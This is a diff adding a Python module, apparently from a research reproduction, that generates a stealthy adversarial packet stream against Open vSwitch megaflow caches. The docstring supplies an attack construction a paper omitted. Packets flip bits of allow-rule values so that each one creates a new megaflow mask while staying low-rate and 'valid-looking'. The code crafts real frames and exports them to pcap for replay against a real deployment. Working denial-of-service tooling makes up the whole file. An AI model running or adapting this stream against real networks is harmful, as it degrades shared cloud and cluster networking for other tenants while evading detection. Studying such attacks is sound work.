@@ -1,0 +1,146 @@
+"""The adversarial covert packet sequence.
+
+"We also need a packet sequence that will populate the MF with the
+'required' entries" — the paper omits the construction "in the interest
+of space"; here it is:
+
+For attack dimensions ``(f_1, L_1) … (f_k, L_k)`` (single-field allow
+rules with prefix depth ``L_i``), the covert packet for mask combination
+``(l_1, …, l_k)``, ``1 ≤ l_i ≤ L_i``, sets field ``f_i`` to the allow
+value with **bit ``l_i − 1`` flipped**: the packet then agrees with the
+allow prefix on the first ``l_i − 1`` bits and diverges at bit
+``l_i − 1``, so the slow path's witness for rule ``i`` sits exactly at
+prefix length ``l_i``.  Every combination yields a distinct megaflow
+mask, all combinations are denied (every rule is mismatched), and the
+full cross product ``Π L_i`` is covered with exactly one packet each.
+
+All other header fields are pinned (same eth_type, ip_dst = the
+attacker's own pod, the allow rule's protocol), so no accidental extra
+masks appear — the stream is as quiet as possible: low-rate,
+valid-looking traffic to the attacker's own pod that the default-deny
+drops on arrival.
+"""
+
+from __future__ import annotations
+
+from itertools import product
+from typing import Iterator, Sequence
+
+from repro.attack.analysis import AttackDimension
+from repro.flow.fields import FieldSpace, OVS_FIELDS
+from repro.flow.key import FlowKey
+from repro.net.addresses import MacAddr
+from repro.net.ethernet import ETHERTYPE_IPV4, Ethernet
+from repro.net.ipv4 import PROTO_TCP, PROTO_UDP, IPv4
+from repro.net.l4 import Tcp, Udp
+from repro.net.layers import Layer
+from repro.net.pcap import PcapWriter
+from repro.util.bits import bit_flip
+
+
+def covert_keys_for_dimensions(
+    dimensions: Sequence[AttackDimension],
+    pinned: dict[str, int],
+    space: FieldSpace = OVS_FIELDS,
+) -> list[FlowKey]:
+    """Generate one flow key per reachable mask combination.
+
+    ``pinned`` supplies every non-attacked field (eth_type, ip_dst,
+    ip_proto, and the allow values of attacked fields are taken from
+    the dimensions themselves).
+    """
+    if not dimensions:
+        raise ValueError("need at least one attack dimension")
+    names = [dim.field for dim in dimensions]
+    if len(set(names)) != len(names):
+        raise ValueError(f"duplicate attack dimensions: {names}")
+    base = dict(pinned)
+    for dim in dimensions:
+        base.setdefault(dim.field, dim.allow_value)
+
+    keys: list[FlowKey] = []
+    ranges = [range(1, dim.prefix_len + 1) for dim in dimensions]
+    for combo in product(*ranges):
+        values = dict(base)
+        for dim, prefix_len in zip(dimensions, combo):
+            values[dim.field] = bit_flip(dim.allow_value, prefix_len - 1, dim.width)
+        keys.append(FlowKey(space, values))
+    return keys
+
+
+class CovertStreamGenerator:
+    """Generates the covert stream as flow keys *and* as real packets.
+
+    The flow keys drive the in-process dataplane model; the packets
+    (and their pcap export) target replay against a real deployment.
+    """
+
+    def __init__(
+        self,
+        dimensions: Sequence[AttackDimension],
+        dst_ip: int,
+        space: FieldSpace = OVS_FIELDS,
+        protocol: int = PROTO_TCP,
+        src_mac: str = "02:00:00:aa:00:01",
+        dst_mac: str = "02:00:00:aa:00:02",
+        default_src_ip: int = 0x0A000001,
+        default_sport: int = 40000,
+        default_dport: int = 40001,
+        frame_pad: int = 64,
+    ) -> None:
+        if protocol not in (PROTO_TCP, PROTO_UDP):
+            raise ValueError("covert stream must be TCP or UDP")
+        self.dimensions = list(dimensions)
+        self.space = space
+        self.protocol = protocol
+        self.dst_ip = dst_ip
+        self.src_mac = MacAddr(src_mac)
+        self.dst_mac = MacAddr(dst_mac)
+        self.default_src_ip = default_src_ip
+        self.default_sport = default_sport
+        self.default_dport = default_dport
+        self.frame_pad = frame_pad
+
+    def pinned_fields(self) -> dict[str, int]:
+        """The non-attacked field values every covert packet shares."""
+        pinned = {
+            "eth_type": ETHERTYPE_IPV4,
+            "ip_dst": self.dst_ip,
+            "ip_proto": self.protocol,
+            "ip_src": self.default_src_ip,
+            "tp_src": self.default_sport,
+            "tp_dst": self.default_dport,
+        }
+        return {name: value for name, value in pinned.items() if name in self.space}
+
+    def keys(self) -> list[FlowKey]:
+        """The full adversarial key sequence (one per target mask)."""
+        return covert_keys_for_dimensions(self.dimensions, self.pinned_fields(), self.space)
+
+    def packet_for_key(self, key: FlowKey) -> Layer:
+        """Craft the real on-the-wire packet realising one flow key."""
+        l4: Layer
+        if self.protocol == PROTO_TCP:
+            l4 = Tcp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
+        else:
+            l4 = Udp(sport=key.get("tp_src"), dport=key.get("tp_dst"))
+        return (
+            Ethernet(src=self.src_mac, dst=self.dst_mac, pad_to_min=True)
+            / IPv4(src=key.get("ip_src"), dst=key.get("ip_dst"), proto=self.protocol)
+            / l4
+        )
+
+    def packets(self) -> Iterator[Layer]:
+        """Craft every covert packet."""
+        for key in self.keys():
+            yield self.packet_for_key(key)
+
+    def frames(self) -> Iterator[bytes]:
+        """Serialise every covert packet to wire bytes."""
+        for packet in self.packets():
+            yield packet.build()
+
+    def write_pcap(self, path: str, rate_pps: float = 1000.0) -> int:
+        """Export the stream for tcpreplay; returns the packet count."""
+        with PcapWriter(path) as writer:
+            return writer.write_all(self.frames(), rate_pps=rate_pps)
